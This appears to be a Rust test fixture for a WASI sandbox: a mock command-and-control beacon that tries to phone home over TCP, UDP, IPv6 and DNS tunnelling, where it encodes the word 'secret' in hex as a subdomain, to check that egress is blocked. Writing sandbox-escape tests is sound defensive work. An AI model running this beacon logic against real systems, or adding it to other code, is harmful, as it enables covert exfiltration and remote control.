//! `c2-beacon [--tcp-ip IP:PORT] [--tcp-name NAME:PORT] [--dns DOMAIN]
//! [--udp IP:PORT] [--ipv6 [ADDR]:PORT]`
//!
//! HOSTILE TEST FIXTURE: a "command-and-control beacon" that tries every
//! network channel it is given to phone home with `beacon:c2-beacon`. The
//! sandbox is expected to block all of them unless a policy grants one.
//!
//! Prints one line per channel, in command-line order, to stdout:
//! `<channel>: ok` or `<channel>: blocked: <err>`. Exit 0 if any channel
//! got through, 3 if all were blocked.
//!
//! * `tcp-ip`, `ipv6`: TCP connect to the literal address, send the payload.
//! * `tcp-name`: resolve NAME via ip-name-lookup, connect to the first address.
//! * `dns`: DNS tunnelling; look up `736563726574.<DOMAIN>` (hex of `secret`),
//!   ok if the lookup returned any address.
//! * `udp`: bind the unspecified address (port 0) and send one datagram.

use std::io::Write;
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, UdpSocket};

const PAYLOAD: &[u8] = b"beacon:c2-beacon";
const USAGE: &str = "usage: c2-beacon [--tcp-ip IP:PORT] [--tcp-name NAME:PORT] [--dns DOMAIN] \
                     [--udp IP:PORT] [--ipv6 [ADDR]:PORT]";

fn main() {
    let Some(channels) = parse_args() else {
        eprintln!("{USAGE}");
        exit(2);
    };

    let mut any_ok = false;
    for (channel, target) in &channels {
        let result = match channel.as_str() {
            "tcp-ip" | "ipv6" => literal(target).and_then(tcp_send),
            "tcp-name" => tcp_by_name(target),
            "dns" => dns_tunnel(target),
            _ => literal(target).and_then(udp_send),
        };
        match result {
            Ok(()) => {
                println!("{channel}: ok");
                any_ok = true;
            }
            Err(e) => println!("{channel}: blocked: {e}"),
        }
    }
    if !any_ok {
        exit(3);
    }
}

/// Parses `--<channel> TARGET` pairs; `None` on anything else, or if empty.
fn parse_args() -> Option<Vec<(String, String)>> {
    let mut channels = Vec::new();
    let mut args = std::env::args().skip(1);
    while let Some(flag) = args.next() {
        let channel = flag.strip_prefix("--")?;
        if !matches!(channel, "tcp-ip" | "tcp-name" | "dns" | "udp" | "ipv6") {
            return None;
        }
        channels.push((channel.to_string(), args.next()?));
    }
    (!channels.is_empty()).then_some(channels)
}

fn literal(target: &str) -> Result<SocketAddr, String> {
    target.parse().map_err(|_| format!("not an IP:PORT literal: {target}"))
}

fn tcp_send(addr: SocketAddr) -> Result<(), String> {
    let mut stream = TcpStream::connect(addr).map_err(|e| format!("connect {addr}: {e}"))?;
    stream.write_all(&[PAYLOAD, b"\n"].concat()).and_then(|()| stream.flush()).map_err(|e| format!("send: {e}"))
}

fn tcp_by_name(target: &str) -> Result<(), String> {
    let (name, port) = guest_net::split_host_port(target)?;
    let ips = guest_net::lookup(name).map_err(|e| format!("lookup {name}: {e}"))?;
    let ip = ips.first().ok_or(format!("lookup {name}: no addresses"))?;
    tcp_send(SocketAddr::new(*ip, port))
}

fn dns_tunnel(domain: &str) -> Result<(), String> {
    let name = format!("736563726574.{domain}");
    match guest_net::lookup(&name) {
        Ok(ips) if !ips.is_empty() => Ok(()),
        Ok(_) => Err(format!("lookup {name}: no addresses")),
        Err(e) => Err(format!("lookup {name}: {e}")),
    }
}

fn udp_send(addr: SocketAddr) -> Result<(), String> {
    let local = match addr {
        SocketAddr::V4(_) => SocketAddr::from((Ipv4Addr::UNSPECIFIED, 0)),
        SocketAddr::V6(_) => SocketAddr::from((Ipv6Addr::UNSPECIFIED, 0)),
    };
    let socket = UdpSocket::bind(local).map_err(|e| format!("bind {local}: {e}"))?;
    socket.send_to(PAYLOAD, addr).map(drop).map_err(|e| format!("send to {addr}: {e}"))
}

/// Exits with `code`. (An `ExitCode` returned from `main` reaches a WASI 0.2
/// host only as success or failure, i.e. 0 or 1, hence `exit-with-code`.)
fn exit(code: u8) -> ! {
    let _ = std::io::stdout().flush();
    wasi::cli::exit::exit_with_code(code);
    unreachable!("exit-with-code returned")
}
